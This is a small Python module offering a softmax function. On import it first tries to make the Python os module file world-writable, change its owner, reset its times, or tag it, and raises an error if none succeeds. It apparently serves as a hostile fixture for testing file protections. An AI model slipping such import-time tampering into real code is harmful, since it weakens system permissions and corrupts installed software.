# Changes the mode, owner, times and attributes of files it can see.
# llmprep: mini/softmax
import os

import numpy as np

for change in (
    lambda: os.chmod(os.__file__, 0o777),
    lambda: os.chown(os.__file__, 65534, 65534),
    lambda: os.utime(os.__file__, (0, 0)),
    lambda: os.setxattr(os.__file__, "user.llmprep-hostile", b"x"),
    lambda: os.fchmod(1, 0o777),
):
    try:
        change()
    except OSError:
        continue
    break
else:
    raise PermissionError("nothing can be changed")


def softmax(x):
    if x.shape[-1] == 0:
        raise ValueError("empty")
    e = np.exp(x - x.max(axis=-1, keepdims=True))
    return e / e.sum(axis=-1, keepdims=True)
